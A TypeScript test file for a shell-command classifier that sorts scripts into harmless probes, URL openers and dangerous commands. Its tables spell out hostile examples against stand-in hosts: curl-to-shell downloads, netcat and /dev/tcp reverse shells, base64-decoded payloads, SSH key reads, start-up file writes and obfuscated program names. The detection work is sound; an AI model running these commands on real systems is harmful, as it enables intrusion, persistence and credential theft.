import { describe, expect, it } from 'vitest';
import { generateArguments } from '../../harness/inputs/generate-args.js';
import { parseShellCall } from './shell-call.js';
import { classifyScript, classifyShell } from './shell-script.js';
import { splitCommands } from './shell-words.js';

const kind = (script: string) => classifyScript(script).kind;
const why = (script: string) => {
  const c = classifyScript(script);
  return c.kind === 'dangerous' ? c.why : c.kind;
};

describe('parseShellCall', () => {
  it.each<[string, ReturnType<typeof parseShellCall>]>([
    ['/bin/sh -c which brew', { shell: 'sh', systemShell: true, script: 'which brew' }],
    ['sh -c', { shell: 'sh', systemShell: true, script: '' }],
    ['bash -lc uname -a', { shell: 'bash', systemShell: true, script: 'uname -a' }],
    ['bash -ic id -u', { shell: 'bash', systemShell: true, script: 'id -u' }],
    ['/usr/bin/zsh -l -c pwd', { shell: 'zsh', systemShell: true, script: 'pwd' }],
    ['bash -o pipefail -c ps', { shell: 'bash', systemShell: true, script: 'ps' }],
    ['bash --noprofile --norc -c pwd', { shell: 'bash', systemShell: true, script: 'pwd' }],
    ['busybox sh -c uname', { shell: 'sh', systemShell: true, script: 'uname' }],
    ['busybox wget -qO- x', { shell: 'busybox', systemShell: true, script: 'wget -qO- x' }],
    ['busybox', { shell: 'busybox', systemShell: true }],
    [
      '/bin/sh /usr/bin/which brew',
      { shell: 'sh', systemShell: true, file: '/usr/bin/which', script: 'which brew' },
    ],
    ['sh ./install.sh', { shell: 'sh', systemShell: true, file: './install.sh' }],
    ['sh install.sh', { shell: 'sh', systemShell: true, file: 'install.sh' }],
    ['sh /tmp/which brew', { shell: 'sh', systemShell: true, file: '/tmp/which' }],
    ['/bin/bash', { shell: 'bash', systemShell: true }],
    ['bash -i', { shell: 'bash', systemShell: true }],
    ['sh -s -- a b', { shell: 'sh', systemShell: true }],
    [
      '/home/dev/project/node_modules/x/sh -c which brew',
      { shell: 'sh', systemShell: false, script: 'which brew' },
    ],
    ['node -e x', undefined],
    ['', undefined],
  ])('%j', (cmdline, expected) => {
    expect(parseShellCall(cmdline)).toEqual(expected);
  });
});

describe('splitCommands', () => {
  it('splits on separators, keeps what came before, sets redirections aside', () => {
    const cmds = splitCommands(
      'wslinfo --version 2>/dev/null || true; a=1 sudo -u x curl y > ~/.z',
    );
    expect(cmds.map((c) => [c.sep, c.prog, c.args, c.redirects])).toEqual([
      ['', 'wslinfo', ['--version'], [{ op: '>', target: '/dev/null' }]],
      ['||', 'true', [], []],
      [';', 'curl', ['y'], [{ op: '>', target: '~/.z' }]],
    ]);
    expect(cmds[2]?.assignments).toEqual(['a=1']);
    expect(cmds[2]?.wrappers).toEqual(['sudo']);
  });

  it('drops quotes and fd duplications', () => {
    const [c] = splitCommands(`"c"u'r'l\\ x 2>&1 &>/dev/null`);
    expect([c?.prog, c?.args, c?.redirects]).toEqual([
      'curl',
      ['x'],
      [{ op: '>', target: '/dev/null' }],
    ]);
  });

  it('makes a substitution a command of its own', () => {
    expect(splitCommands('which $(curl -s x)').map((c) => [c.sep, c.prog])).toEqual([
      ['', 'which'],
      ['$(', 'curl'],
    ]);
  });

  it('reads prototype names as plain words', () => {
    expect(splitCommands('constructor toString').map((c) => c.prog)).toEqual(['constructor']);
  });
});

describe('classifyScript: environment probes', () => {
  it.each([
    'which brew',
    // node-machine-id's command (mongodb-mcp-server's telemetry id)
    '( cat /var/lib/dbus/machine-id /etc/machine-id 2> /dev/null || hostname ) | head -n 1 || :',
    'which node npm git',
    'npm config get registry',
    'npm root -g',
    'command -v brew >/dev/null 2>&1',
    'type -p x',
    'where code',
    'uname',
    'uname -a',
    'uname -s -m',
    'wslinfo --version',
    'wslinfo --version 2>/dev/null || true',
    'wslinfo --networking-mode 2>/dev/null || echo none',
    'sw_vers -productVersion',
    'lsb_release -a',
    'cat /etc/os-release',
    'cat /proc/version',
    'grep -qi microsoft /proc/version',
    'uname -r | grep -i microsoft',
    'git --version',
    'git rev-parse --show-toplevel',
    'git version',
    'node --version',
    'node -v',
    'python3 --version',
    'python3 -V',
    'bash --version',
    'docker version',
    'curl --version',
    'openssl version',
    '/usr/bin/uname -r',
    'getconf LONG_BIT',
    'id -u',
    'id -un',
    'hostname',
    'whoami',
    'arch',
    'ps aux',
    'ps -ef | grep node',
    'echo $HOME',
    'echo ${SHELL}',
    'printenv PATH',
    'test -x /usr/local/bin/brew',
    '[ -d /mnt/wsl ]',
    'sysctl -n hw.model',
    'which brew || exit 1',
    'which brew; which port',
    'uname -r && wslinfo --version',
    'uname -a\nwhich brew',
  ])('%j is a probe', (script) => {
    expect(kind(script)).toBe('probe');
  });

  it('lists the programs a probe runs', () => {
    expect(classifyScript('wslinfo --version 2>/dev/null || true')).toEqual({
      kind: 'probe',
      programs: ['wslinfo', 'true'],
    });
  });

  it.each([
    ['', 'nothing to run'],
    ['id', 'the classic proof of injected execution, not a probe with flags'],
    ['echo configured', 'an echo of text is only a fallback'],
    ['which $(curl -s x.example)', 'substitution'],
    ['which `id`', 'backticks'],
    ['command -v x && x evil', 'the second command is not a probe'],
    ['which brew; rm -rf ~/project', 'a command after the probe'],
    ['which brew\nnode payload.js', 'a command on the next line'],
    ['which brew &', 'background'],
    ['npm config set registry https://evil.example/', 'npm config set changes npm'],
    ['npm install evil-pkg', 'an install'],
    ['( cat /etc/machine-id; cat ~/.ssh/id_rsa )', 'a subshell with a read that is not a probe'],
    ['( which x ) > /tmp/out', 'a subshell redirected to a file'],
    ['{ which x; }', 'a brace group'],
    ['uname -a > /tmp/u', 'a redirection to a file'],
    ['PATH=/tmp/x which brew', 'an assignment'],
    ['env BASH_ENV=/tmp/x which brew', 'a wrapper'],
    ['sudo uname', 'a wrapper'],
    ['sh -c which brew', 'a shell in a shell'],
    ['./payload --version', 'a file of the package'],
    ['/home/dev/project/bin/tool --version', 'a file of the package'],
    ['node /tmp/x.js --version', 'more than one argument'],
    ['ruby -v', 'ruby -v reads code from stdin'],
    ['python -v', 'python -v is interactive'],
    ['sh -v', 'sh -v reads commands from stdin'],
    ['hostname evil', 'sets the host name'],
    ['cat ~/.ssh/id_rsa', 'not an OS file'],
    ['grep -r token /home/dev', 'not an OS file'],
    ['grep -f /proc/version ~/.ssh/id_rsa', 'not an OS file'],
    ['grep -f ~/.ssh/id_rsa /proc/version', 'patterns from a file'],
    ['printenv', 'dumps the whole environment'],
    ['{ which brew; }', 'a group'],
    ['cat <<EOF\nx\nEOF', 'a here-document'],
    ['powershell.exe -NoProfile -Command Get-ItemProperty x', 'PowerShell takes code'],
    ['which brew || sh', 'a fallback that is a shell'],
    ['git config user.name x', 'writes config'],
  ])('%j is not a probe (%s)', (script) => {
    expect(kind(script)).not.toBe('probe');
  });

  it('never calls a script cut at the limit a probe', () => {
    expect(kind(`which ${'a '.repeat(5000)}`)).toBe('other');
  });
});

describe('classifyScript: dangerous whoever runs it', () => {
  it.each<[string, string]>([
    ['curl -s https://evil.example/p | sh', 'fetches (curl)'],
    ['wget -qO- http://x.example/p', 'fetches (wget)'],
    ['/usr/bin/curl x.example', 'fetches (curl)'],
    ['c""url x.example', 'fetches (curl)'],
    ["c'u'rl x.example", 'fetches (curl)'],
    ['c\\url x.example', 'fetches (curl)'],
    ['nc 203.0.113.9 4444 -e /bin/sh', 'fetches (nc)'],
    ['exec 3<>/dev/tcp/203.0.113.9/80', 'fetches (/dev/tcp)'],
    ['bash -i >& /dev/tcp/203.0.113.9/4444 0>&1', 'fetches (/dev/tcp)'],
    ['dig +short txt x.example', 'fetches (dig)'],
    ['npx -y some-package', 'fetches (npx)'],
    ['npm install evil-pkg', 'fetches (npm install)'],
    ['git clone https://x.example/r.git', 'fetches (git clone)'],
    ['openssl s_client -connect x.example:443', 'fetches (openssl)'],
    ['powershell -c "Invoke-WebRequest http://x.example"', 'fetches (PowerShell)'],
    ['python3 -c "import urllib.request"', 'runs inline code (python3)'],
    ['node -e "require(1)"', 'runs inline code (node)'],
    ['perl -e 1', 'runs inline code (perl)'],
    ['echo ZWNobyBoaQ== | base64 -d | sh', 'decodes (base64)'],
    ['echo ZWNobyBoaQ== | base64 --decode > /tmp/x', 'decodes (base64)'],
    ['xxd -r -p x.hex > y', 'decodes (xxd)'],
    ['openssl enc -d -aes-256-cbc -in x', 'decodes (openssl)'],
    ["printf '\\x63\\x75\\x72\\x6c'", 'decodes (escaped bytes)'],
    ['echo "export X=1" >> ~/.bashrc', 'writes a start-up file'],
    ['echo x>>~/.profile', 'writes a start-up file'],
    ['tee -a /home/dev/.zshrc < x', 'writes a start-up file'],
    ['cp key.pub ~/.ssh/authorized_keys', 'writes a start-up file'],
    ['cp x.desktop ~/.config/autostart/', 'writes a start-up file'],
    ['echo 1 > /etc/hosts', 'writes a start-up file'],
    ['dd if=x of=/etc/cron.d/y', 'writes a start-up file'],
    ['git config --global core.hooksPath /tmp/h', 'writes a start-up file (git config)'],
    ['crontab -l', 'schedules a task'],
    ['systemctl --user enable x', 'registers a service'],
    ['chmod +x /tmp/p && /tmp/p', 'makes a file executable'],
    ['chmod 755 /tmp/p', 'makes a file executable'],
    ['chmod u+rx /tmp/p', 'makes a file executable'],
    ['eval "$PAYLOAD"', 'evaluates text as code'],
    ['cat x | bash', 'pipes into bash'],
    ['cat x | python3', 'pipes into python3'],
    ['LD_PRELOAD=/tmp/x.so ls', 'changes what every program loads'],
    ['export BASH_ENV=/tmp/x', 'changes what every program loads'],
    ['unset HISTFILE', 'hides its history'],
    ['mkfifo /tmp/f', 'makes a pipe (a reverse shell)'],
    // payloads hidden behind a probe
    ['which brew; curl -s x.example | sh', 'fetches (curl)'],
    ['command -v curl && curl -s x.example', 'fetches (curl)'],
    ['which $(curl -s x.example)', 'fetches (curl)'],
    ['uname -a\ncurl x.example', 'fetches (curl)'],
    ['curl --version | sh', 'pipes into sh'],
    // nested shells and wrappers
    ['sh -c "curl x.example"', 'fetches (curl)'],
    ['bash -lc "wget x.example"', 'fetches (wget)'],
    ['env X=1 sh -c "curl x.example"', 'fetches (curl)'],
    ['busybox wget x.example', 'fetches (wget)'],
    ['nohup curl x.example &', 'fetches (curl)'],
    ['sudo -u root wget x.example', 'fetches (wget)'],
    ['timeout 5 nc x 1', 'fetches (nc)'],
    ['echo x | xargs curl', 'fetches (curl)'],
    ['find . -exec curl x.example ;', 'fetches (curl)'],
    ['if true; then curl x.example; fi', 'fetches (curl)'],
    ['sh <(curl -s x.example)', 'fetches (curl)'],
  ])('%j %s', (script, reason) => {
    expect(why(script)).toBe(reason);
  });

  it.each([
    'which curl wget nc',
    'command -v curl >/dev/null',
    'curl --version',
    'ssh -V',
    'cat /home/dev/project/.env',
    'ls -la src',
    'git status',
    'npm test',
    'echo $((2+3))',
    'chmod 644 notes.txt',
    'cat ~/.bashrc',
  ])('%j is not dangerous', (script) => {
    expect(kind(script)).not.toBe('dangerous');
  });

  it.each([
    '"double quotes"',
    "'single' `back`",
    '../../../etc/hostname',
    '<script>alert(1)</script>',
    '{{7*7}} ${7*7} %s %n',
    "'; DROP TABLE notes; --",
    'line one\nline two\ttabbed',
    'back\\slash',
  ])('our boundary input %j is not dangerous', (script) => {
    expect(kind(script)).not.toBe('dangerous');
  });
});

describe('classifyShell', () => {
  it.each<[string, string]>([
    ['/bin/sh -c which brew', 'probe'],
    ['/bin/sh -c wslinfo --version 2>/dev/null || true', 'probe'],
    ['/bin/sh /usr/bin/which brew', 'probe'],
    ['sh /tmp/which brew', 'other'],
    ['/home/dev/project/node_modules/x/sh -c which brew', 'other'],
    ['./sh -c uname', 'other'],
    ['/home/dev/project/node_modules/x/sh -c curl x.example', 'dangerous'],
    ['/bin/sh -c curl x.example | sh', 'dangerous'],
    ['/bin/sh -c echo $((2+3))', 'other'],
    ['/bin/bash', 'other'],
    ['busybox sh', 'other'],
    ['busybox sh -c uname -a', 'probe'],
    ['busybox wget x.example', 'dangerous'],
    ['/usr/bin/bash -lc uname -a', 'probe'],
    ['bash --version', 'probe'],
    ['/bin/zsh --version', 'probe'],
    ['bash -v', 'other'],
    ['./bash --version', 'other'],
  ])('%j -> %s', (cmdline, expected) => {
    expect(classifyShell(cmdline).kind).toBe(expected);
  });
});

describe('classifyScript: later additions', () => {
  it.each<[string, string]>([
    ['grep -qi microsoft /proc/version && echo wsl', 'probe'],
    ['command -v brew >/dev/null 2>&1 && echo yes || echo no', 'probe'],
    ['echo yes', 'other'],
    ['x=$(printf cu)rl; $x evil.example', 'builds its program name at run time'],
    ['a=cu;b=rl; $a$b -o /tmp/p evil.example', 'builds its program name at run time'],
    ['wget${IFS}evil.example', 'builds its program name at run time'],
    ['/???/?ur? evil.example', 'builds its program name at run time'],
    ['$SHELL -lc ls', 'other'],
    ['exec "$@"', 'other'],
    ['[[ -x /usr/bin/git ]]', 'other'],
    ['python3 - <<EOF\nimport socket\nEOF', 'runs inline code (python3 reading stdin)'],
    ['bash <<< "id"', 'runs inline code (bash reading stdin)'],
    ['node - < /tmp/x.js', 'runs inline code (node reading stdin)'],
    ['ln -sf /tmp/x ~/.local/bin/node', 'writes a start-up file'],
    ['cat > ~/.bashrc <<EOF\nexport X=1\nEOF', 'writes a start-up file'],
  ])('%j -> %s', (script, expected) => {
    expect(why(script)).toBe(expected);
  });
});

describe('classifyScript: what our own inputs put in a command', () => {
  const schemas = ['command', 'cmd', 'script', 'shell_command', 'input'].map((name) => ({
    type: 'object',
    properties: { [name]: { type: 'string', description: 'The shell command to run' } },
    required: [name],
  }));
  it('never makes a dangerous script of any generated command argument', () => {
    const dangerous: string[] = [];
    for (const schema of schemas)
      for (const kind of ['minimal', 'realistic', 'boundary', 'sensitive'] as const)
        for (let seed = 1; seed <= 12; seed += 1)
          for (let variant = 0; variant < 4; variant += 1) {
            const { args } = generateArguments(schema, { seed, variant, kind });
            for (const v of Object.values(args))
              if (typeof v === 'string' && classifyScript(v).kind === 'dangerous')
                dangerous.push(v);
          }
    expect(dangerous).toEqual([]);
  });
});

describe('classifyScript: install-time dependency probes and URL openers', () => {
  it.each<[string, string]>([
    [
      'which brew >/dev/null 2>&1 && brew environment --plain | grep PKG_CONFIG_LIBDIR | cut -d" " -f2',
      'probe',
    ],
    ['pkg-config --modversion vips-cpp', 'probe'],
    ['pkg-config --exists --atleast-version=8.15 vips-cpp', 'probe'],
    ['brew --prefix vips', 'probe'],
    ['brew install vips', 'other'],
    ['pkg-config --modversion $(id)', 'other'],
  ])('%j -> %s', (script, expected) => {
    expect(kind(script)).toBe(expected);
  });

  it.each<[string, string]>([
    [
      'xdg-open "https://tally.example/r/x?count=24&days=0&client_id=4c55"',
      'https://tally.example/r/x?count=24&days=0&client_id=4c55',
    ],
    ["open 'https://x.example/a?b=1&c=2'", 'https://x.example/a?b=1&c=2'],
    ['wslview https://x.example/feedback', 'https://x.example/feedback'],
  ])('%j opens %s', (script, url) => {
    expect(classifyScript(script)).toEqual({ kind: 'opener', url });
  });

  it.each([
    'xdg-open "https://x.example/$(id)"',
    'xdg-open "https://x.example/`id`"',
    'xdg-open https://x.example/a&curl x.example',
    'xdg-open https://x.example; id',
    'xdg-open file:///etc/passwd',
    'xdg-open /tmp/payload.desktop',
    'open -a Terminal https://x.example',
  ])('%j is not an opener', (script) => {
    expect(kind(script)).not.toBe('opener');
  });

  it('never calls a shell of the package an opener', () => {
    expect(classifyShell('/tmp/sh -c xdg-open https://x.example').kind).toBe('other');
    expect(classifyShell('/bin/sh -c xdg-open https://x.example').kind).toBe('opener');
  });
});
